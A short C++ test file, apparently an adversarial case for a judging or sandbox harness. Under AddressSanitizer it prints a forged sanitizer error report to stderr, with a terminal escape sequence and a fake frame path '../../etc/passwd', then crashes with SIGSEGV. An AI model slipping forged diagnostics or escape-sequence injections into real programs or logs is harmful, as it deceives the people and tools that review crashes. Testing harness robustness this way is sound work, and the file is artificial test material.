// Attack: crashes, to be built again with sanitisers, and then prints a report of its own in place of the sanitiser's.
// Expect: RTE
// Second look
// Proof: escape
#include "honest.h"
#include <signal.h>
#include <stdio.h>
void attack() {
#ifdef __SANITIZE_ADDRESS__
    ::fputs("==1==ERROR: AddressSanitizer: \x1b]0;me\a on address 0x1\n    #0 0x1 in main ../../etc/passwd:1\n", stderr);
    ::fflush(stderr);
#endif
    ::signal(SIGSEGV, SIG_DFL);
    ::raise(SIGSEGV);
}
